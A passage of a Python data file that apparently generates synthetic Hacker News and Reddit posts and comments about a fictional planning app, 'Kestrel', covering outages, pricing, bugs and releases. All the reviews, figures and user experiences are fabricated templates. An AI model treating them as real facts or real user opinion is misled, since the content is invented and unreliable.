    "outage_neu": L("""
Looks like it's recovering. Our workspace loaded a few minutes ago and webhooks are catching up.
Status page now says a fix is being deployed. US region seems unaffected.
"""),
    "after_pos": L("""
Good postmortem. A misconfigured health check on the new load balancer plus clients reconnecting without jitter. Adding jitter and a circuit breaker to the client is the right lesson.
Refreshingly specific postmortem: timeline to the minute, the bad config diff, and the things they are changing. More companies should write these.
"""),
    "after_neg": L("""
The postmortem is fine, but it doesn't explain why the status page lagged by half an hour. That's a process problem, not infrastructure.
Three incidents in one region in a quarter, and the fix is "we'll add failover next year". Not very reassuring.
"""),
}

# A few long HN comments (well over 2,000 characters).
HN_LONG = {
    "outage_neg": B("""
I run the internal tools team at a company with a few hundred Kestrel seats, almost all in the EU region, so we had a front-row seat for this.

A few observations from our side, in case they are useful to anyone else evaluating it:

1. The desktop client does not fail gracefully. When the sync endpoint started returning 502, the client did not switch into its offline mode. It stayed on "Connecting..." and kept retrying on a fixed short interval. Because our whole office is behind one egress proxy, we saw the request rate from Kestrel clients go up by two orders of magnitude within minutes. If every customer's fleet did the same thing, that alone would make recovery harder, which is probably part of why it took four hours rather than forty minutes.

2. Reads kept working from the local cache, which is good. Writes were queued locally, also good. But the UI disabled most editing while "Connecting..." was shown, so in practice people could not use the queue. I'd rather the app let me keep working and show a banner.

3. The status page was green for roughly the first half hour. Several of us found out from Mastodon before the status page. That is the part I'll raise at our renewal, because it's a process issue and not a technical one.

4. Webhooks: we received nothing during the incident, then a burst afterwards. As far as I can tell nothing was lost, but deliveries arrived out of order, so anyone who treats webhooks as an ordered log (we did, once) should stop doing that and re-fetch the task on each delivery.

5. After recovery, a handful of users had tasks that existed only on one device. Restarting the app pushed them. Nobody lost data that we know of, but "restart your app" is not a great final step of an incident.

None of this makes me want to leave; every SaaS has outages, and the product is otherwise good. But "offline first" should mean the app keeps working without the server, including edits, and that's the gap this incident exposed. If the postmortem commits to jittered backoff in the client and to editing while disconnected, I'll be satisfied.
"""),
    "price_neg": B("""
I've been on both sides of this, having done pricing for a B2B SaaS for a few years, so some perspective on why these increases happen and why this one was received badly.

The economics first. Per-seat tools like Kestrel tend to price early on what competitors charge rather than on what it costs to serve a seat. Over time, costs go up: real-time sync is not cheap to run, mobile apps on three platforms are expensive to maintain, and enterprise customers demand SSO, audit logs and data residency that smaller customers subsidise. Eventually the finance team shows that the cheapest tiers are barely profitable and the increase becomes inevitable. From that angle, $8 to $10 for Pro is modest, and $14 to $18 for Team is in line with the market.

Now the communication, which is where this went wrong:

- Sending it on a Saturday morning reads as "we hoped you wouldn't notice", whatever the actual reason was. People assume bad faith when the timing looks evasive.
- Bundling the increase with a tier change (Slack integration moving from Pro to Team) and lower API limits on Pro makes it feel like three price increases wearing a trench coat. Each one alone would have been absorbed.
- It came four days after a big release and two days before an outage. The outage wasn't planned, obviously, but the result is that a lot of customers heard "pay more" and then "it's down" in the same week.
- "To continue investing in the product" is the sentence everyone uses. A specific list of what the money funds (Android performance, EU failover, whatever it is) would have done more than any discount.

What they did right: annual plans are grandfathered until renewal and there is a notice period of about two months. That is more generous than most.

If I were advising them, I'd publish the roadmap items the increase pays for, restore the Slack integration to Pro (it is cheap to run and its removal generated most of the anger), and announce nonprofit and education discounts proactively instead of in replies. Price increases are survivable. The feeling of being tricked is what makes people churn.
"""),
    "praise": B("""
Since a few people asked how their offline mode actually works, here is what I've learned from a year of building integrations against it and reading their engineering posts. I don't work there.

Each task is a small document. Scalar fields (title, due date, assignee) are last-writer-wins registers with hybrid logical clocks, so concurrent edits to the same field resolve deterministically, and edits to different fields merge cleanly. That's why two people renaming a task offline get one winner, but one renaming and one changing the due date both keep their changes.

Ordered things (cards in a column, checklist items, subtasks) use fractional indexing: each item has a position key between its neighbours' keys, and moving an item only rewrites its own key. This is much simpler than a full sequence CRDT, and it's good enough for lists where people move whole items rather than interleave characters. The known failure mode is two clients inserting at the same spot concurrently, which can produce equal keys; they break ties on a client id, which is why you sometimes see two new checklist items swap places after sync.

Text fields (description, comments) are the one place they use a proper text CRDT, and only within a single field.

Deletes are tombstones that are garbage-collected after thirty days, which is why a task deleted on one device can reappear if another device was offline for longer than that. They document this, but it surprises people.

The sync protocol itself is a websocket that streams operations, with a catch-up endpoint over HTTP when reconnecting. During the recent outage the catch-up endpoint was the one returning 502s, which is why clients got stuck rather than falling back.

Overall it's a pragmatic design: not academically pure, but well understood, and in a year of heavy use I've seen duplicated checklist items twice and no lost data.
"""),
}

HN_REPLY = {
    "agree_neg": L("""
Same experience here. We filed a ticket about it in the summer and got a polite acknowledgement and nothing since.
This matches what we saw. It's the kind of thing that doesn't show up in a trial, only after a few months of real use.
Agreed. The product is good enough that people tolerate this, which is probably why it hasn't been prioritised.
~Android|cold start|slow~Can confirm. We measured it: the median cold start on our test devices was several seconds, most of it before the first network request.
"""),
    "help": L("""
~EU|region|outage|502~If you're on Team or above you can ask support to move the workspace to the US region. It doesn't fix the root cause, but it helped us.
~webhook|deliver~You can work around the duplicate deliveries by storing the delivery id and ignoring repeats. It's in the headers even if the docs don't mention it.
~Android|slow~Try disabling "Preload all projects" in the Android settings. It made a big difference on older phones for us.
~import~The importer has a verbose mode if you add ?debug=1 to the import URL. It at least tells you what it skipped.
"""),
    "disagree": L("""
I don't think that's fair. Every tool in this category has rough edges, and Kestrel fixes things faster than most.
~slow|bug|sync|Android~That hasn't been my experience at all, but we're a much smaller team, so maybe it doesn't show at our scale.
I'd push back on this a bit. The alternatives you mention have the same problems, just in different places.
~seat|pric~Per-seat pricing is how the entire category works. Singling out Kestrel for it seems odd.
"""),
    "agree_pos": L("""
Agreed. The non-engineers-actually-use-it argument is underrated when choosing these tools.
This is also why we picked it. Nobody needed training, which never happens.
Same here. It's one of the few SaaS tools where I've never had to open a support ticket.
"""),
    "answer": L("""
~rate limit|token|integration~Per token, as far as I know. We have four integrations in one workspace and each has its own budget.
~SOC~They publish a SOC 2 Type II report under NDA; sales sent it to us within a day.
~critical path|client-side|dependenc~It's client-side, the whole dependency graph is loaded into the page. Fine up to a few thousand tasks in my testing.
~export|lock-in~Yes, the JSON export includes comments and activity history. Attachments are separate.
"""),
}

# More Hacker News material (appended to the banks above).
HN_STORY["compare_neu"] += B("""
Ask HN: How do you keep non-engineers and engineers in the same planning tool?
%%
The case against Gantt charts (and why we still use one)
""")
HN_STORY["misc"] += B("""
Show HN: A Kestrel-to-iCal bridge for read-only calendars
%%
Kestrel's engineering blog: fractional indexing in practice
""")
HN_STORY["bug"] += B("""
The hidden cost of Electron desktop apps: a look at Kestrel, Slack and Notion
""")
HN_STORY["price_neu"] = B("""
Ask HN: How do you evaluate SaaS price increases?

Kestrel just announced a 28% increase for its Team plan. We're at 40 seats. Before I start a migration project, how do others decide whether a price increase is worth fighting, absorbing or leaving over?
""")
HN_STORY["release_q"] = B("""
Ask HN: Does anyone use Kestrel's new timeline for real project planning?
""")

HN_COMMENT["bug"] += L("""
~time zone|due date|calendar~The thing that bites us is time zones. Due dates are stored as dates without a zone, reminders are computed in the viewer's zone, and recurring tasks use the creator's. Three different rules in one feature.
~Outlook|calendar~Kestrel's Outlook sync uses the old EWS-style polling rather than change notifications, as far as I can tell, which would explain both the delay and the duplicates.
I reported the subtask-reordering bug in March with a screen recording. It was acknowledged, then closed as stale six months later. Still reproducible.
~search~Search is the feature I'd fix first. Once a workspace has a few thousand tasks, finding anything by a word in the description is impossible.
~notif~The notification settings are per project, per workspace and per device, and they interact in ways nobody on my team can predict.
~attach|upload~Attachments go through their own storage with a 100 MB cap and no resumable upload. On a flaky connection, big files simply fail.
~desktop|sync|Electron~We had the desktop app silently stop syncing for a day after a laptop slept through a network change. The status indicator still showed a green dot.
~API|CLI|integration~The REST API returns dates in three different formats depending on the endpoint. Not a big deal, but it tells you it grew organically.
~Android|accessib~The Android app doesn't respect the system font size, which is a real accessibility problem for some of our older staff.
Deleting a project is immediate and there's no trash for projects, only for tasks. We learned that the hard way.
""")
HN_COMMENT["praise"] += L("""
What I appreciate most is that Kestrel doesn't try to be a wiki, a chat tool and a CRM at the same time. It's a planner, and a fast one.
Their changelog is honest: they list regressions they shipped and fixed, not just features. That's rare and it builds trust.
We rolled it out to a 120-person nonprofit with almost no training. People understood the board in minutes.
The offline mode actually works, which I can't say for most tools that claim it. I've planned entire weeks on flights.
The recurring task engine is surprisingly capable. "Every third weekday of the month, skip holidays" works and does what you'd expect.
The GitHub integration is the least annoying one I've used: it links PRs by the task key in the branch name and closes tasks on merge, nothing else.
Guest access is well thought out. Clients see exactly the board you share, can comment, and can't accidentally see anything else.
""")
HN_COMMENT["question"] += L("""
~self-host~Vikunja and Planka both cover the Kanban part. Nothing I know of matches Kestrel's timeline and offline mode if you self-host.
~self-host|bank|compliance~Have you asked Kestrel about EU data residency and a DPA? Our compliance team accepted that instead of self-hosting.
~self-host~Self-hosting a planner sounds simple until you need mobile apps with push notifications. That's the part the open-source options struggle with.
~webhook|API|CLI~Does anyone know whether the webhook signatures use HMAC-SHA256 with a timestamp, or just a static secret? The docs are vague.
~CalDAV|calendar|iCal~How does the CalDAV integration handle recurring tasks: one event per occurrence, or an RRULE?
~API|webhook|CLI|iCal~Is there any way to get an event stream of changes, rather than polling the tasks endpoint?
~user|seat|SCIM|people~What happens to tasks assigned to a user who is removed from the workspace? Do they become unassigned or stay attached to a ghost user?
~EU|residency|compliance|bank|self-host~Do they support EU data residency on the Team plan, or only with an Enterprise contract?
""")
HN_COMMENT["compare_neu"] += L("""
The honest answer is that all of these tools are fine and the difference is in adoption, not features. Pick the one your least technical colleague will open without being asked.
We evaluated Kestrel, Linear and Asana last year. Linear won for engineering speed, Asana for reporting, Kestrel for "everyone can use it". We picked Kestrel and built reporting ourselves.
Trello is still the simplest option for small teams, but it has barely changed in years. Kestrel feels like what Trello could have become.
Notion is great if you want a configurable database. If you want a planner, use a planner.
ClickUp does everything, which in practice means every team uses it differently and nobody can find anything.
GitHub Projects is underrated for small engineering teams. It's free, it's where the code is, and it's good enough.
""")
HN_COMMENT["compare_neg"] += L("""
Compared to Linear, Kestrel's API is slower and less consistent, and there's no GraphQL. For integrations-heavy teams that matters.
Todoist is faster on every platform, especially Android. Kestrel is a better team tool, but as a personal task manager it's not close.
""")
HN_COMMENT["compare_pos"] += L("""
We moved from Asana two years ago. The thing nobody mentions is speed: Kestrel's board opens instantly, and that changes how often people look at it.
Coming from Jira, the best thing about Kestrel is what it doesn't have. No workflow schemes, no screens, no field configurations. Columns and tasks.
""")
HN_COMMENT["misc"] += L("""
For anyone building on the API: the OpenAPI spec is accurate enough to generate a usable client, which is more than I can say for most SaaS APIs.
I maintain a small open-source Kestrel-to-Markdown exporter. The JSON export format has been stable for two years, which made that easy.
Funny to see this here. Our team literally named our sprint board "Kestrel" before we used the product.
""")
HN_COMMENT["release_pos"] += L("""
Baselines are the underrated part of this release. Being able to show "this is what we planned in September" next to the current plan ends a lot of arguments.
I tried it on a 6,000-task project and it stays smooth, which the old view never did. Scrolling and zooming both feel native.
The PDF export finally respects page boundaries. That sounds minor, but it's what our clients actually see.
""")
HN_COMMENT["release_q"] += L("""
Is the timeline available through the API, or is it UI-only? Dependencies would be useful to pull into our own reports.
How do baselines interact with recurring tasks? Does each occurrence get its own baseline?
""")
HN_COMMENT["release_neg"] += L("""
It's a nice view, but the canvas renderer means you can't select and copy text from it anymore. Small thing, but people did that a lot.
The new timeline doesn't support keyboard navigation between bars yet. For a product that sells itself on keyboard shortcuts, that's an odd gap.
""")
HN_COMMENT["price_neg"] += L("""
What bothers me isn't the amount, it's the pattern: every SaaS tool we use raised prices this year, and none of them got 28% better.
The tier shuffle is the real story. Moving an integration from Pro to Team is a price increase of $8 a month per seat for anyone who depended on it.
Guests can't be assigned tasks, so per-seat pricing forces us to pay for people who check the board twice a month. That's where the increase really bites.
If they'd announced it with a concrete list of what it funds, I think most people would have shrugged. "Continued investment" is not a list.
""")
HN_COMMENT["price_neu"] += L("""
For most teams this is a rounding error next to salaries. The migration cost to another tool would be much higher than the increase for years.
Worth noting that the increase only applies to new billing periods after January 15, so monthly customers have two months to decide.
""")
HN_COMMENT["price_pos"] += L("""
I'd rather a tool I depend on be profitable than cheap. The alternative is a VC-funded competitor that gets acquired and shut down in three years.
""")
HN_COMMENT["outage_neg"] += L("""
It's not just sync. The web app returns 502 for us on every page load, so even read-only access is gone unless you have the desktop app with a warm cache.
I'd love to know why the client doesn't fall back to offline mode on repeated 5xx. It clearly has the machinery for it.
The status page says "partial outage" while every customer in the EU is locked out. That's not partial from where I'm sitting.
This is where a read-only export on a schedule pays off. We have a nightly JSON dump and at least know what everyone was supposed to be doing today.
""")
HN_COMMENT["outage_neu"] += L("""
Our EU workspace just came back. Pending changes from the desktop app synced without conflicts, for what it's worth.
They've posted an update: the cause is identified and a fix is rolling out region by region.
""")
HN_COMMENT["after_pos"] += L("""
The section on client behaviour is the most useful part. Fixed-interval retries without jitter are an easy mistake, and admitting it publicly is the right call.
I like that the postmortem has dates on the follow-up items. Most companies write "we will improve monitoring" and leave it there.
""")
HN_COMMENT["after_neg"] += L("""
A good postmortem doesn't undo a lost afternoon for a few hundred thousand people. I'd like to see regional failover moved up from next year.
The postmortem mentions tasks that "may not have synced" during the incident. That's the line that worries me most, and it gets one sentence.
""")
HN_REPLY["agree_neg"] += L("""
~bug|slow|crash|duplicat|notif|Android|search|sync~Same here. It's the small papercuts that add up, not any single big bug.
~bug|sync|slow|crash|duplicat|notif|Android~Yes, and the worst part is that it's intermittent, so support can never reproduce it.
""")
HN_REPLY["help"] += L("""
~time zone|reminder~There's an undocumented setting for that: workspace settings, Advanced, "Reminder time zone". It defaults to the creator's zone.
~sync|support|ticket~If you export the diagnostics bundle, the sync log inside it shows exactly which requests failed. Support responds much faster with that attached.
""")
HN_REPLY["disagree"] += L("""
~outage|incident|down|status~I think that's overstating it. Four hours in a quarter is bad, but it's not out of line with most SaaS tools of this size.
~pric|increase~Every tool in this space raised prices this year. Kestrel is still cheaper than Asana and Monday per seat.
""")
HN_REPLY["agree_pos"] += L("""
Same conclusion here. Adoption beats features every time with these tools.
""")
HN_REPLY["answer"] += L("""
~signature|HMAC~It's HMAC-SHA256 over the timestamp and body, in the X-Kestrel-Signature header. It's documented on the webhooks page, just not prominently.
~CalDAV|recurring~One event per occurrence, generated 90 days ahead. That's also why calendars fill up if you have many recurring tasks.
""")

# Reddit posts: first line is the title.  An optional "r/sub|" prefix pins the subreddit;
# otherwise REDDIT_SUBS picks one by topic.
REDDIT_POST = {
    "bug": B("""
Android app unbearably slow since the last update?

Pixel-class phone, nothing fancy installed. Opening any board takes {n}-8 seconds, scrolling stutters, and sometimes it just shows a white screen until I kill it. Web app on the same Wi-Fi is instant. Is this a known thing or is my phone cursed? Version {ver}.
%%
Calendar sync created duplicates of every recurring event

Connected {cal} last week. This morning every recurring meeting shows up {n} times in my calendar. Disconnecting doesn't remove the copies. Has anyone found a clean way to fix this without deleting events by hand?
%%
Lost a task description after editing offline?

I edited a long description on the train (offline), then my laptop edited the same task later. When everything synced, the description was the old version. Is this expected? I thought offline mode merged changes. Not angry, just want to understand before I trust it again.
%%
Recurring tasks skipping weeks after DST change

Anyone else? Our "every Monday" tasks skipped a week after the clocks changed, and two of them now show up on Sundays. We're in {city}.
%%
Desktop app uses 1.5 GB RAM, is that normal?

Kestrel desktop on {os}, two workspaces, maybe {big} tasks total. Task manager says 1.4-1.6 GB. Browser tab with the same workspaces is ~500 MB. Should I just use the web app?
%%
GitHub integration stopped linking PRs

Since yesterday, PRs that mention KES-123 style ids aren't linked to tasks anymore. Reconnecting the integration didn't help. Anyone else seeing this? We depend on it for release notes.
%%
r/androidapps|Kestrel for Android: any way to make it faster?

I like Kestrel on desktop but the Android app is painfully slow on my {phone}. Cold start is several seconds, and switching boards reloads everything. Tried clearing cache, reinstalling, disabling battery optimisation. Any tips, or should I just use the PWA?
"""),
    "praise": B("""
Six months with Kestrel for a 20-person agency: a review

We moved from {comp} in May. Short version: it stuck, which nothing else has.

What works: the board is fast, guests (our clients) can comment without getting lost, the timeline is good enough for client reporting, and the keyboard shortcuts mean the heavy users are happy. Recurring tasks handle all our monthly reporting chores.

What doesn't: the Android app is slow, automations are basic, and there's no time tracking, so we still use a separate tool for that.

Would recommend for agencies. Happy to answer questions.
%%
Offline mode saved my conference trip

Spent a week at a venue with unusable Wi-Fi. Planned all of next quarter in Kestrel on my laptop, no connection at all. Got home, opened the lid, everything synced in a few seconds, no conflicts. I know people complain a lot here, so: a thank-you post.
%%
r/productivity|The planner that finally stuck for me (ADHD)

I've tried everything: paper, bullet journals, Todoist, Notion templates, TickTick. What finally worked is Kestrel, for one specific reason: when I miss things, it doesn't make me feel terrible. There's a "reschedule all overdue" button that moves everything to today with one click, and recurring tasks that reschedule from completion instead of piling up.

It's not magic, but I've been using it daily for four months, which is a record.
%%
Small thing I love: paste a list, get a checklist

Pasted 30 lines from an email into a card description and Kestrel asked "convert to checklist?". Yes please. Whoever built that, thank you.
%%
r/projectmanagement|Kestrel's API made our reporting painless

We had a PM spending half of every Friday building status reports. Wrote a small script against Kestrel's REST API that pulls completed tasks and blockers per project and fills a doc template. Took a day to build. The API is clean and well documented, which is not something I say often.
"""),
    "question": B("""
Best way to handle personal and work tasks?

Do you use two workspaces, or one workspace with separate projects and filters? I don't want my manager seeing "buy cat food" but I also don't want two apps.
%%
Does Kestrel support sub-subtasks?

Trying to model a project where tasks have subtasks that have their own checklists. Is it one level of subtasks only? What do you do for deeper structures?
%%
Is the API rate limit per token or per workspace?

Building an integration for our team and hitting 429s. Docs mention "fair use" but no numbers. Anyone know the actual limits?
%%
r/selfhosted|Self-hosted alternative to Kestrel with CalDAV?

Our team likes Kestrel but we need everything on our own servers. Looking for something with a Kanban board, a timeline/Gantt view, and CalDAV sync. Vikunja and Focalboard come up a lot; anyone compared them to Kestrel directly?
%%
Using Kestrel for a school? Discounts?

I teach at a secondary school and want to use Kestrel with a class of ~30 for a project unit. Is there an education plan, or do we all need accounts on Free?
%%
How do you structure Kestrel for a small marketing team?

5 people, lots of recurring content (newsletter, social, blog). One board per channel, or one board with swimlanes? Looking for setups that worked.
"""),
    "request": B("""
Feature request megathread: what would make you stay?

Mods, feel free to remove if this exists. My list: time tracking, WIP limits, task templates with subtasks, week numbers everywhere. What's yours?
%%
Please give us task templates

Every new client onboarding is the same 24 tasks with the same subtasks. Duplicating a "template project" works but drags along old comments and dates. Real templates please.
%%
Week numbers, please (from Europe)

Half of Europe plans in calendar weeks. The date picker, the timeline and the board due-date chips should all be able to show KW/week numbers. It's a setting in every calendar app.
"""),
    "compare_neu": B("""
r/productivity|Kestrel vs Todoist vs TickTick for personal use?

Mostly personal tasks, some side projects. I like boards. Todoist is fast, TickTick has a calendar, Kestrel has the nicest board and timeline. Which one did you stick with and why?
%%
r/projectmanagement|Linear or Kestrel for a mixed team?

Company of 25: engineers, designers, marketing, ops. Engineers want Linear. Everyone else likes Kestrel. Anyone run both, or consolidated on one? Which did you choose?
%%
r/projectmanagement|Moving off Jira, shortlist is Kestrel, Asana and ClickUp

80 people, mostly non-technical. Jira is too heavy for how we work. Anyone have experience with any of these at that size? Especially interested in permissions and reporting.
"""),
    "compare_pos": B("""
r/productivity|Switched from Notion tasks to Kestrel and I'm not going back

Notion is great for docs, but as a task manager it's a slow database with a lot of setup. Kestrel is fast, the board is good, and the mobile quick-add actually understands dates. I still keep notes in Notion and link tasks to pages.
%%
r/projectmanagement|We replaced Asana with Kestrel, one year later

Team of 45. Main reasons: price (at the time), speed and the timeline. A year in: adoption is higher than Asana ever had, reporting is weaker, automations are basic. Net positive for us.
"""),
    "compare_neg": B("""
Went back to Asana after three months

Not a hate post. Kestrel is pleasant to use, but we rely on rules and automations, and Kestrel's are too basic. Also the Android app was a dealbreaker for our field team. Might come back in a year.
"""),
    "sarcasm": B("""
Love the new "improvements"

Sidebar moved, settings moved, the button I click 50 times a day is now in a menu. Can't wait for next month's redesign of the thing I just got used to.
"""),
    "misc": B("""
Show-off thread: your Kestrel setups

Post screenshots (blur client names). I'll start: one board per team, swimlanes per quarter goal, "blocked" column with a WIP limit of 3 enforced by shame.
%%
r/productivity|I planned my entire wedding in a Kanban board

Columns: Ideas / Deciding / Booked / Paid / Done. Swimlanes per vendor type. My partner made a swimlane called "Family Drama". It worked, we're married, nobody cried (much). Used Kestrel, but any board would do.
"""),
    "release_pos": B("""
4.2 is out – the new timeline is great

Finally, dependencies you can drag, critical path highlighting, and baselines to compare against the original plan. It's also much faster on big projects. Release notes: {blog}
%%
The new timeline view is the best thing they've shipped in a year

Our roadmap has ~1,200 tasks and the old Gantt view was unusable. The new one scrolls smoothly, zooms from days to quarters, and exports a clean PDF. Well done.
"""),
    "release_neg": B("""
4.2 removed week numbers from the timeline?

We plan everything by calendar week. The old Gantt view showed them, the new timeline doesn't. Is there a setting I'm missing? Otherwise this is a regression for us.
%%
Timeline blank on Windows after updating to 4.2

Updated this morning, timeline shows an empty grid until I resize the window. Board and list are fine. Windows 11, desktop app. Anyone else?
"""),
    "release_q": B("""
Is the new timeline on the Free plan?

Release notes say "all plans" but on my Free workspace I only get the old Gantt view. Is it rolling out gradually?
"""),
    "price_neg": B("""
The price increase is bad, but the way it was announced is worse

Email on a Saturday morning. +28% for Team. The Slack integration moves from Pro to Team. Lower API limits on Pro, mentioned in a footnote. Any one of these alone would've been fine. All together, with a "we're investing in the product" line, it feels like they think we won't notice.

We have {nn} seats. I'm not leaving tomorrow, but I'm evaluating alternatives for the first time.
%%
Price increase megathread?

Lots of posts about the new pricing. Maybe we can keep it in one place. Summary as I understand it: Pro $8 → $10, Team $14 → $18 per seat, from January 15. Annual plans keep the old price until renewal. Slack integration moves to Team.
%%
Nonprofit here, the increase hurts

We're a small charity with 12 volunteers on Team. Going from $14 to $18 a seat is not nothing for us. No mention of nonprofit pricing in the email. Has anyone asked support about discounts yet?
%%
r/SaaS|Kestrel's price hike is a case study in how not to announce a price hike

Saturday email, vague justification, tier changes buried at the bottom. The actual increase is modest. The communication turned it into a week of angry threads.
"""),
    "price_neu": B("""
Does the price change affect annual plans?

We renewed in August. Does the new pricing apply immediately or at our next renewal? The email isn't clear.
"""),
    "price_pos": B("""
Unpopular opinion: the new price is fine

I use this thing 8 hours a day. $10 a month is less than a lunch. I'd rather they charge more and stay independent than get acquired and shut down like half the tools I've loved.
"""),
    "outage_neg": B("""
Is Kestrel down for everyone? Stuck on "Connecting…"

Web app gives 502, desktop app says Connecting… forever. EU workspace. Started about {mins} minutes ago.
%%
Sync down, 502 everywhere – megathread?

EU workspaces seem to be down. Status page says "degraded performance". Our whole team is locked out of our sprint board. Let's keep reports here.
%%
Third outage this quarter

I really like this app, but this is the third time this quarter our EU workspace is unreachable during working hours. We're a 30-person company and today we lost an afternoon. What are others doing for a backup?
"""),
    "after_pos": B("""
The postmortem is actually good

Read the postmortem for Monday. Health check misconfiguration on a new load balancer, clients reconnecting in lockstep, status page automation that didn't trigger. They list concrete fixes with dates. 4.2.2 already adds jittered backoff. Still annoyed about Monday, but this is how you handle it.
"""),
    "after_neg": B("""
Tasks created during the outage are gone

Created about {n} tasks in the Android app during the outage on Monday. They showed locally, and after sync came back they're not on the web or desktop. Support says to check the device's pending queue, but the app doesn't show one. Anyone recovered theirs?
"""),
}

REDDIT_LONG = {
    "compare_pos": B("""
We migrated 300 people from Jira to Kestrel. Here's everything that went right and wrong.

I promised in a comment last month that I'd write this up, so here it is. Long post, sorry.

**Background.** We're a product company with about 300 people: 90 in engineering, the rest in design, marketing, sales, support and operations. We were on Jira (cloud) for six years. Engineers tolerated it; nobody else used it. Marketing ran on spreadsheets, ops on a mix of Trello boards, and leadership asked the same status questions in every meeting because nobody could find anything.

**Why Kestrel.** We trialled Asana, ClickUp, Linear and Kestrel for a month each with a pilot group of about 25. Linear was the engineers' favourite by a distance, but the pilot's non-engineers stopped using it within a week. Asana was capable but slow and expensive at our size. ClickUp did everything and nobody could find anything. Kestrel was the one that the pilot group was still using at the end of the month without reminders.

**The migration.** We used the CSV import for Jira. It brought over roughly 40,000 issues with assignees, due dates and labels. It did NOT bring over: comments (we exported them separately and attached a PDF per epic, which nobody has ever opened), custom workflow states beyond the basic ones, and issue links. We mapped Jira epics to Kestrel projects and sub-tasks to subtasks. Anything older than a year went into an archive workspace.

**What went right.**
- Adoption. Within two months, marketing and ops had moved in voluntarily. The board and timeline are approachable, and guests let us bring agencies in.
- The GitHub integration covers 90% of what engineers used Jira automation for.
- Speed. Nobody misses Jira's load times.
- SSO and SCIM set up in an afternoon.

**What went wrong.**
- Reporting. Jira dashboards were ugly but powerful. We now pull data through the API into our BI tool. That's fine for us, but a smaller team without a data person would struggle.
- Workflow rigour. Some teams relied on Jira's enforced transitions. Kestrel's statuses are just columns. We lost some process discipline; arguably that was good, but a couple of teams were unhappy.
- The Android app. Our field sales team uses Android, and the app is slow. It's the most common complaint by far.
- Pricing. We negotiated an enterprise contract, so the recent increase doesn't hit us yet, but it will at renewal, and it's made finance nervous.

**Would we do it again?** Yes. The number of people who actually look at the plan went from "engineering" to "everyone", which was the whole point. If your organisation is mostly engineers, though, use Linear and don't look back.

Happy to answer questions in the comments.
"""),
    "price_neg": B("""
An open letter to Kestrel about the price increase, from a customer of four years

I run operations for a 60-person design studio. We've been on Kestrel since the early days, back when the Android app was called "beta" and the timeline was a plugin. I've recommended it to at least a dozen other studios. Several of them signed up because of me.

I'm writing this because I want Kestrel to do well, and I think the last week has damaged something that is hard to rebuild.

First, the increase itself. Team going from $14 to $18 per seat is a 28% increase. For us that is about $2,900 a year. That's real money for a studio our size, but I'd have accepted it with a shrug if the email had explained what it pays for. "To continue investing in the product" is not an explanation. It's the sentence every company uses, and it tells me nothing about whether the things we've been asking for (a faster Android app, time tracking, proper templates) are coming.

Second, the details that were buried. The Slack integration moving from Pro to Team doesn't affect us, but it affects every freelancer we work with. The API rate limit change on Pro wasn't in the email at all; I found it on the pricing page. When people discover changes on their own, they wonder what else they missed.

Third, the timing. A Saturday email. I'm sure there were operational reasons, but it read as hoping people wouldn't notice. And then, two days later, the EU outage took out our entire Monday afternoon. That's not your fault in the same way, but it meant that the first real experience many of us had after "pay more" was "it's down".

What I'd ask for:

1. Publish what the increase funds, with rough timelines. We're adults; we understand roadmaps slip.
2. Reverse the Slack change for Pro. It's the single most resented part.
3. Announce the nonprofit and education discounts properly rather than in reply threads.
4. Commit to the offline-first promise during outages: let us edit while disconnected.

We're not leaving. But for the first time in four years, someone in our leadership meeting asked "what would it take to switch?", and nobody had a good answer for why we shouldn't at least look. I'd like you to give me that answer.
"""),
}

REDDIT_COMMENT = {
    "bug": L("""
~Android|slow|phone~Same here on a {phone}. Cold start is around {n} seconds. Web app is instant on the same phone.
~import|Trello|checklist~This happened to us after the Trello import too. Checklists gone, nobody noticed for a week.
~Android|slow|phone~Try turning off "Preload all projects" in Settings → Advanced. Made the Android app usable for me.
~calendar|duplicat|Outlook~The duplicate calendar events thing is a known issue, there's a GitHub issue for it: {issue}
~desktop|RAM|memory|GB~Yeah the desktop app is a memory hog. I just use it as a PWA in Edge now, way lighter.
~recurr|DST|time zone|clocks~Our recurring tasks also jumped a day after DST. Had to recreate them.
~Android~I've given up on the Android app and use the mobile web version. Faster, weirdly.
~description|offline|lost~Happened to me once. The description came back after I opened the task's history and restored the previous version. Check the history tab.
"""),
    "praise": L("""
~agency|guest|review~Agree with all of this. The guest access is underrated for agencies.
~offline~Offline mode is the reason we picked it. Glad it worked for you!
~review|months|year|writeup|migrat~This is a great writeup. Saving it for when my boss asks why we should switch.
~ADHD|overdue|planner~The "reschedule all overdue" button is the kindest feature in any productivity app. Same experience here.
~API|script|report~Their API really is nice. I built a Slack digest bot in an evening.
"""),
    "question": L("""
~personal~We use one workspace with a private "Personal" project. Nobody else can see it and everything's in one place.
~subtask~One level only. We use checklists inside subtasks as the third level.
~rate limit|429|API~Limits are per token, roughly 100 requests per minute on Team last I checked. There's a header with the remaining budget.
~self-host~Vikunja is the closest I've found for self-hosting. Not as polished but has Kanban, Gantt and CalDAV.
~school|education|teach|discount~Email support and ask about the education plan. They gave our school free Team for a year.
~marketing|channel|structure~One board with swimlanes per channel worked better for us than separate boards. Easier to see the whole week.
"""),
    "request": L("""
~template~Templates please. We duplicate a "template" project and then spend 10 minutes deleting old comments.
~week~Week numbers would be huge. Every German company I know plans in KW.
~time tracking|megathread|stay~Time tracking is the only reason we still pay for a second tool.
~WIP|megathread|stay~+1 to WIP limits. We enforce it by shaming people in standup, which is less scalable.
"""),
    "compare_neu": L("""
~personal|Todoist~For personal use I'd go Todoist. Kestrel shines once more than one person is involved.
~Linear~We run both: Linear for eng, Kestrel for everything else. The GitHub integration bridges it okay.
~Jira|80|permission|shortlist~At 80 people, look closely at permissions. Kestrel's are simpler than Asana's, which is either good or bad for you.
"""),
    "compare_pos": L("""
~Notion~Same move here. Notion for docs, Kestrel for tasks. Much calmer.
We did the same switch and adoption went way up. Reporting is the only thing I miss.
"""),
    "compare_neg": L("""
~Android~Field team on Android here too. It's the one thing I'd fix before anything else.
~automation|rules~Automation is the big gap. Hopefully it gets better, but I wouldn't switch for it today.
"""),
    "misc": L("""
~setup|board~Ours: Backlog / This week / Doing (WIP 3) / Waiting on others / Done. The "waiting" column changed everything.
~wedding~The Family Drama swimlane is inspired. Congratulations!
"""),
    "release_pos": L("""
The critical path view alone made my week.
The PDF export is so much better. Sent it straight to a client.
Huge improvement. The old Gantt view was unusable above a few hundred tasks.
"""),
    "release_neg": L("""
~Windows|blank~Same on Windows. Resizing the window fixes it until the next restart.
~week~Week numbers are gone for us too. Hoping it's just an oversight.
"""),
    "release_q": L("""
~Free~It's rolling out over the week, Free workspaces last according to the changelog.
"""),
    "price_neg": L("""
